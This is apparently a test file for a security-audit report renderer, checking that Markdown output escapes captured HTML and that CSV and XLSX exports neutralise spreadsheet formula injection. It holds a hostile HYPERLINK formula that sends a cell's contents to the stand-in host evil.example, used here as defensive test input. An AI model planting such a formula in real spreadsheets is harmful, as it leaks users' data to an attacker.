from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook

from flowaudit.reports import render
from flowaudit.reports.text_reports import md, md_code

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_markdown_escapes_captured_text(hostile_report):
    text = render(hostile_report("en"), "md").decode("utf-8")
    # captured text is either backslash-escaped or inside a code span, which renders it literally
    assert "\\<script\\>" in text
    outside = re.sub(r"`[^`]*`", "", text)
    assert "<" not in outside.replace("\\<", "")
    for span in re.findall(r"`[^`]*`", text):
        assert "\n" not in span and re.search(r"(?<!\\)\|", span) is None
    assert "## Findings" in text and "## Method" in text and "## Session timeline" in text


def test_md_helpers():
    assert md("a|b<c>[d](e)\nf") == "a\\|b\\<c\\>\\[d\\]\\(e\\) f"
    assert md_code("x`y|z") == "`x\u02cby\\|z`"


def _cells_ok(values):
    for value in values:
        if isinstance(value, str) and value:
            assert not value.startswith(FORMULA_START), value


def test_csv_neutralises_formulas(hostile_report):
    data = render(hostile_report("en"), "csv").decode("utf-8")
    assert data.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(data.lstrip("\ufeff"))))
    assert rows[0][:3] == ["id", "severity", "kind"] and len(rows) > 3
    for row in rows:
        _cells_ok(row)
    assert any(cell == "'" + FORMULA for row in rows for cell in row)


def test_xlsx_neutralises_formulas_and_has_sheets(hostile_report):
    data = render(hostile_report("en"), "xlsx")
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["summary", "findings", "evidence", "timeline", "method"]
    seen_formula_text = False
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    _cells_ok([cell.value])
                    seen_formula_text |= cell.value == "'" + FORMULA
    assert seen_formula_text
    evidence = list(wb["evidence"].iter_rows(values_only=True))
    assert any(r[6] == "imei" for r in evidence[1:])


def test_json_round_trips(hostile_report):
    import json
    r = hostile_report("zh")
    assert json.loads(render(r, "json"))["findings"][0]["id"] == "F001"
